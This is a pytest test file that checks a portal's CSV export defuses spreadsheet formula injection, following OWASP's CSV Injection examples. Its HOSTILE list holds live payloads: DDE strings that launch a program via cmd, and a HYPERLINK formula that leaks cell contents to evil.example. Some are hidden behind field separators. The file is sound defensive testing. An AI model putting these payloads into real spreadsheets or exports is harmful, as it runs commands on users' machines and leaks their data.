"""CSV exports: no cell a spreadsheet could run as a formula (OWASP "CSV Injection")."""
import csv
import io
import re

import pytest

from portal.web.csv_export import csv_writer, safe_row, spreadsheet_safe

# OWASP's examples, and the same payloads behind a field separator, which a
# spreadsheet splitting on `;` or `,` reads as the start of a new cell.
HOSTILE = [
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click")',
    "\t=1+1",
    "\r=1+1",
    "x;=cmd|' /C calc'!A0",
    "x,=cmd|' /C calc'!A0",
    "x, +1+1",
    "report; @SUM(1+1)",
    "a\n=1+1",
    "ok;\t=1+1",
]
HARMLESS = ["bob@partner.example", "203.0.113.5", "Board pack", "Q3; final", "a-b", "x=1",
            "2026-12-02T10:00:00+00:00", ""]
SEPARATORS = ",;\t\r\n"
FORMULA = "=+-@\t\r"


def readable_as_formula(cell):
    """Whether any piece of the cell, split at any separator, starts like a formula."""
    pieces = re.split(f"[{re.escape(SEPARATORS)}]", cell)
    return any(piece.lstrip(" ").startswith(tuple(FORMULA)) for piece in pieces[1:]) or \
        cell.startswith(tuple(FORMULA))


@pytest.mark.parametrize("value", HOSTILE)
def test_every_cell_a_spreadsheet_could_read_as_a_formula_is_neutralised(value):
    assert readable_as_formula(value)
    safe = spreadsheet_safe(value)
    assert safe == "'" + value  # the text is kept, behind the quote a spreadsheet shows as text


@pytest.mark.parametrize("value", HARMLESS)
def test_ordinary_text_is_left_alone(value):
    assert spreadsheet_safe(value) == value


def test_every_cell_is_quoted_so_a_separator_inside_one_cannot_split_it():
    buffer = io.StringIO()
    csv_writer(buffer).writerow(safe_row(["x;=cmd|' /C calc'!A0", 7, None, "plain"]))
    assert buffer.getvalue() == '"\'x;=cmd|\' /C calc\'!A0","7","","plain"\r\n'
    [row] = csv.reader(io.StringIO(buffer.getvalue()))
    assert row == ["'x;=cmd|' /C calc'!A0", "7", "", "plain"]
